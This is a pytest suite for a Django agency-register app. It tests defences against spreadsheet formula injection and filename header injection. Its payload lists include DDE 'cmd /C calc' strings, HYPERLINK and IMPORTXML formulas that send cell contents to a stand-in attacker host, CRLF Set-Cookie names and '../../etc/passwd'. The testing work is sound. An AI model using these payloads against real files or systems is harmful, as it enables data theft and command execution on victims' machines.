"""What is given out as a table: no cell can start a formula, nothing foreign is in it, and it comes in unchanged."""

import csv
import io
import re
import unicodedata
import zipfile
from io import BytesIO
from typing import Any
from urllib.parse import unquote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from agencies.models import AgencyPeriod
from common.clock import today
from common.history import save_versioned
from common.registry import spreadsheet_kinds
from common.spreadsheets.csv_text import unescape
from common.spreadsheets.exporting import export_response
from common.spreadsheets.models import ImportBatch
from tests.answers import read_whole
from tests.factories.agencies import AppointmentFactory, PeriodFactory
from tests.factories.inspections import PlanFactory, SetFactory
from tests.hostile.world import World, agency_kind
from tests.spreadsheets.test_writing import PAYLOADS as OF_THE_WRITER

pytestmark = [pytest.mark.django_db, pytest.mark.words]
# As an office might type them, in the form in which text is stored: one space, nothing that cannot be seen.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://ke.gian/?"&A1;"xem")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://ke.gian/?",A1),"//a")',
    "＝1+1",
    "﹢1+1",
    "'=1+1",
    "''=1+1",
    '";=1+1',
    'a",=1+1',
    "<r>=1+1</r>",
    "{=1+1}",
    "|=1+1",
    "00123",
    "0123456789012345678",
    "1e5",
    "TRUE",
    "#REF!",
    "-",
    "3-4",
]
LIVE = tuple("=+-@\t\r\n\0＝＋－＠")
FORMATS = ("csv", "xlsx")
# The columns of the roster in which any text may stand.
TEXTS = ("name", "short_name", "address", "website", "note", "head", "representative", "secretary", "code",
         "electronic_code")  # fmt: skip


# --- Reading what was given out ---------------------------------------------------------------------------------
def content_of(answer: Any) -> bytes:
    """All of it; a streamed answer that was read to its end is closed."""
    return b"".join(answer) if answer.streaming else answer.content


def export(client: Client, fmt: str, **query: Any) -> bytes:
    answer = client.get(reverse("agency_export", args=[fmt]), query)
    assert answer.status_code == 200
    return content_of(answer)


def live_in(content: bytes) -> list[str]:
    """The cells of a file that a spreadsheet program would run."""
    if not content.startswith(b"PK"):
        text = content.decode("utf-8-sig")
        cells = [cell for record in csv.reader(io.StringIO(text, newline="")) for cell in record]
        return [cell for cell in cells if cell.startswith(LIVE)]
    book, packed = load_workbook(BytesIO(content)), zipfile.ZipFile(BytesIO(content))
    formula = re.compile(rb"<f[\s/>]|<hyperlink")
    found = [str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    for name in packed.namelist():
        if (
            re.search(r"externalLinks|vbaProject|oleObject|connections", name)
            or name.startswith("xl/worksheets/")
            and formula.search(packed.read(name))
        ):
            found.append(name)
    return found


def table_of(content: bytes) -> list[dict[str, Any]]:
    """The rows under the header, by its words."""
    if content.startswith(b"PK"):
        lines = [list(row) for row in load_workbook(BytesIO(content)).active.iter_rows(values_only=True)]
    else:
        text = io.StringIO(content.decode("utf-8-sig"), newline="")
        lines = [[unescape(cell) if cell else "" for cell in record] for record in csv.reader(text)]
    head = next(number for number, line in enumerate(lines) if line[0] == "STT")
    return [dict(zip(lines[head], line, strict=True)) for line in lines[head + 1 :]]


def upload(client: Client, world: World, content: bytes, name: str) -> ImportBatch:
    data = {"kind": "agencies", "scope": f"province:{world.home.province.pk}", "on": f"{today():%d/%m/%Y}"}
    answer = client.post(reverse("import_create"), data | {"correct": "", "file": SimpleUploadedFile(name, content)})
    assert answer.status_code == 302, answer.context["form"].errors
    return ImportBatch.objects.order_by("-pk")[0]


def counts(batch: ImportBatch) -> dict[str, int]:
    return {state: count for state in ("new", "changed", "unchanged", "faulty") if (count := batch.count(state))}


def hostile_roster(keys: tuple[str, ...] = TEXTS, level: str = "Xã") -> bytes:
    """Each payload in every text column of a row of its own, as text in a workbook; the level decides its fate."""
    columns = {column.key: column for column in agency_kind().columns}
    book = Workbook()
    book.active.append([*(columns[key].label for key in keys), columns["level"].label])
    for number, payload in enumerate(PAYLOADS, start=2):
        for place, key in enumerate(keys, start=1):
            cell = book.active.cell(number, place, payload[: columns[key].max_length])
            cell.data_type = "s"
        book.active.cell(number, len(keys) + 1, level)
    content = BytesIO()
    book.save(content)
    return content.getvalue()


# --- X1: in by the wizard, out by the list, in again ------------------------------------------------------------
def take_in_the_hostile_roster(world: World) -> Client:
    """The register after a roster in which every text is an attack, and one row was cut off by its formula error."""
    client = world.cast.client("staff")
    batch = upload(client, world, hostile_roster(), "doc-hai.xlsx")
    assert counts(batch) == {"new": len(PAYLOADS) - 1, "faulty": 1}  # #REF! is no text of anybody
    client.post(reverse("import_apply", args=[batch.pk]), {"revision": batch.revision, "bo-qua-loi": "1"})
    assert AgencyPeriod.objects.filter(name__in=PAYLOADS).count() == len(PAYLOADS) - 1
    return client


def test_payloads_in_every_text_column_go_out_dead_and_come_in_unchanged(world):
    client = take_in_the_hostile_roster(world)
    labels = {column.key: (column.label, column.max_length) for column in agency_kind().columns}
    for fmt in FORMATS:
        content = export(client, fmt)
        assert live_in(content) == []
        told = {row["Tên cơ quan"]: row for row in table_of(content)}
        for payload in set(PAYLOADS) - {"#REF!"}:
            expected = {label: payload[:length] for label, length in map(labels.get, TEXTS)}
            assert {label: told[payload][label] for label in expected} == expected
        again = upload(client, world, content, f"danh-sach.{fmt}")
        assert counts(again) == {"unchanged": AgencyPeriod.objects.filter(province=world.home.province).count()}
    assert len(PAYLOADS) * len(TEXTS) * len(FORMATS) >= 168


@pytest.mark.parametrize("fmt", FORMATS)
def test_what_no_form_would_store_goes_out_dead_as_well(world, fmt):
    """Rows from elsewhere (another programme, a rescue by hand) are not trusted more than a form."""
    payloads = [*OF_THE_WRITER, *(sign + "=1+1" for sign in "\t\r\n\v\f\x1f\u00a0\u200b\u2028\ufeff\u202e")]
    if connection.vendor == "postgresql":
        payloads = [payload for payload in payloads if "\0" not in payload]  # which it cannot hold at all
    for payload in payloads:
        period = PeriodFactory(province=world.home.province, name=payload, short_name=payload, agency__note=payload)
        AppointmentFactory(agency=period.agency, name=payload)
    content = export(world.cast.client("staff"), fmt)
    assert live_in(content) == []
    assert len(table_of(content)) == len(payloads) + 3


@pytest.mark.parametrize("fmt", FORMATS)
def test_condition_in_the_heading_of_an_export_is_no_formula(world, fmt):
    client = take_in_the_hostile_roster(world)
    for text in ("=1+1", "@SUM", "<r>=1+1</r>", "-2+3+cmd"):
        assert live_in(export(client, fmt, q=text)) == []


def test_faulty_rows_come_back_dead_with_the_same_faults(world):
    client = world.cast.client("staff")
    first = upload(client, world, hostile_roster(level="không rõ"), "doc-hai.xlsx")
    assert counts(first) == {"faulty": len(PAYLOADS)}
    content = content_of(client.get(reverse("import_faults", args=[first.pk])))
    assert live_in(content) == []
    again = upload(client, world, content, "sua-lai.xlsx")
    told = [
        [(row.raw, sorted(column for column, *_ in row.faults)) for row in batch.rows.order_by("number")]
        for batch in (first, again)
    ]
    assert told[0] == told[1]


@pytest.mark.parametrize("kind", [kind.name for kind in spreadsheet_kinds])
def test_templates_hold_no_formula(world, kind):
    PlanFactory(province=world.home.province)  # lists of plans come in where there is a plan,
    SetFactory(province=world.home.province)  # criteria where there is a draft of them
    answer = world.cast.client("staff").get(reverse("import_template", args=[kind]))
    assert (answer.status_code, live_in(content_of(answer))) == (200, [])


def test_control_a_plain_writer_is_found():
    book, text = Workbook(), io.StringIO()
    book.active.append(["=1+1"])
    book.active["A2"].hyperlink = "http://ke.gian/"
    content = BytesIO()
    book.save(content)
    csv.writer(text).writerow(["an toàn", "=1+1", "\t=1+1", "'=1+1"])
    assert len(live_in(content.getvalue())) == 2
    assert live_in(text.getvalue().encode()) == ["=1+1", "\t=1+1"]


# --- Exactly what the list shows --------------------------------------------------------------------------------
QUESTIONS = [
    {},
    {"q": "ubnd"},
    {"q": "khongcogi"},
    {"level": "commune"},
    {"level": "district", "obligation": "mandatory"},
    {"obligation": "encouraged"},
    {"unit": "{s.unit.pk}"},
    {"cluster": "{s.cluster.pk}"},
    {"officer": "{s.officer.pk}"},
    {"edition": "any"},
    {"status": "none"},
    {"kind": "commune_committee"},
]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("question", QUESTIONS, ids=lambda question: "-".join(question) or "everything")
def test_export_holds_what_the_list_shows_for_each_condition(world, question, fmt):
    asked = {name: value.format(s=world.home) for name, value in question.items()}
    for person in ("staff", "secretary"):
        client = world.cast.client(person)
        listed = client.get(reverse("agency_list"), asked).context["page"].object_list
        if client.get(reverse("agency_list"), asked).context["form"].errors:
            assert client.get(reverse("agency_export", args=[fmt]), asked).status_code == 409
        else:
            names = sorted(row["Tên cơ quan"] for row in table_of(export(client, fmt, **asked)))
            assert names == sorted(row.name for row in listed)


def test_export_holds_the_day_that_is_looked_at(world):
    period = world.cast.other.periods.get()
    period.valid_from = today()
    save_versioned(period, by=None)
    client = world.cast.client("staff")
    client.post(reverse("day_set"), {"day": "31/12/2021"})
    names = {row["Tên cơ quan"] for row in table_of(export(client, "csv"))}
    assert names == {"UBND huyện Châu Phú", "UBND xã Bình Mỹ"}


# --- The name of a file -----------------------------------------------------------------------------------------
NAMES = [
    "Danh sách cơ quan (bản 2).xlsx",
    unicodedata.normalize("NFD", "Danh sách cơ quan đã sửa.xlsx"),
    "50% a&b; c=d.xlsx",
    "kế hoạch 'mới'.xlsx",
    "=1+1.xlsx",
    "-rf.xlsx",
    "tệp \u202egpj.xlsx",
    "tệp\u2028mới.xlsx",
    "d" * 200 + ".xlsx",
    "CON.xlsx",
    "a\r\nSet-Cookie: x=1.xlsx",
    "a\tb.xlsx",
    "..%2f..%2fetc.xlsx",
]


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_name_of_an_upload_is_refused_or_comes_back_in_one_safe_header(world, name):
    client = world.cast.client("staff")
    data = {"kind": "agencies", "scope": f"province:{world.home.province.pk}", "on": f"{today():%d/%m/%Y}"}
    file = SimpleUploadedFile("x.xlsx", hostile_roster(("name",), level="không rõ"))
    file._name = name  # past the tidying of the test's own file class
    answer = client.post(reverse("import_create"), data | {"correct": "", "file": file})
    if answer.status_code == 200:
        assert "file" in answer.context["form"].errors
        return
    batch = ImportBatch.objects.order_by("-pk")[0]
    stem = batch.file.name.removesuffix(".xlsx")
    addresses = {
        reverse("file_download", args=[batch.file_id]): batch.file.name,
        reverse("import_faults", args=[batch.pk]): f"{stem}_loi.xlsx",
    }
    for address, expected in addresses.items():
        answer = client.get(address)
        content_of(answer)
        assert named_in(answer["Content-Disposition"]) == expected
        assert [sign for sign in answer["Content-Disposition"] if not sign.isprintable() or not sign.isascii()] == []


def named_in(header: str) -> str:
    """The file name that a browser takes from the header."""
    if plain := re.fullmatch(r'attachment; filename="((?:[^"\\]|\\.)*)"', header):
        return re.sub(r"\\(.)", r"\1", plain[1])
    coded = re.fullmatch(r"attachment; filename\*=utf-8''([\w.%~!$&+^`|#-]*)", header)
    assert coded is not None, header
    return unquote(coded[1])


@pytest.mark.parametrize("name", ["a\r\nSet-Cookie: x=1", 'a"; filename="b', "Cơ quan\n", "../../etc/passwd"])
def test_name_of_an_export_makes_no_header_of_its_own(db, name):
    for fmt in FORMATS:
        answer = export_response(agency_kind(), iter([]), fmt, file_name=name)
        read_whole(answer)
        header = answer["Content-Disposition"]
        assert not {"\r", "\n"} & set(header)
        assert named_in(header).endswith(f".{fmt}")
